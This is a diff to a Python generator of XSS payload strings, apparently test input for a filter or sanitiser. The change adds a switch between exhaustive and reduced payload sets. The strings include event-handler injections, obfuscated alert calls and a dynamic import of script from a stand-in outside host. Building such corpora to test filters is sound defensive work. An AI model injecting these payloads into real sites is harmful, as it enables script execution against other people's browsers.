@@ -7,8 +7,10 @@ comments and scripts, and encodings that a filter may miss.
 
 from __future__ import annotations
 
-from itertools import product
+import os
+from itertools import cycle, islice, product
 
+EVERY = "EVERY_PAYLOAD" in os.environ
 _CALLS = ("alert(1)", "alert`1`", "top['al'+'ert'](1)", "import('//x.example/a.js')")
 _ELEMENTS = (
     ("svg", "onload"),
@@ -88,11 +90,20 @@ _ODD = (
 )
 
 
-def payloads() -> list[str]:
-    """Return them all, each once."""
-    texts = [f"<{e} {h}={c}>" for (e, h), c in product(_ELEMENTS, _CALLS)]
+def payloads(*, every: bool = EVERY) -> list[str]:
+    """Return texts of all kinds, each once.
+
+    Without `every` each element has one call and each carrier one scheme; `make soak` has them all.
+    """
+    calls = list(product(_ELEMENTS, _CALLS))
+    carried = list(product(_CARRIERS, _SCHEMES))
+    if not every:
+        calls = list(zip(_ELEMENTS, cycle(_CALLS), strict=False))
+        longest = max(len(_CARRIERS), len(_SCHEMES))
+        carried = list(islice(zip(cycle(_CARRIERS), cycle(_SCHEMES), strict=False), longest))
+    texts = [f"<{e} {h}={c}>" for (e, h), c in calls]
     texts += [f"<{e}/{h.upper()}='{_CALLS[0]}'>" for e, h in _ELEMENTS]
-    texts += [carrier.format(scheme) for carrier, scheme in product(_CARRIERS, _SCHEMES)]
+    texts += [carrier.format(scheme) for carrier, scheme in carried]
     texts += [f"{b}<img src=x onerror=alert(1)>" for b in _BREAKS]
     texts += [f"{b}<svg/onload=alert(1)>" for b in _BREAKS]
     texts += [f"{b} onfocus=alert(1) autofocus {b}" for b in _BREAKS]
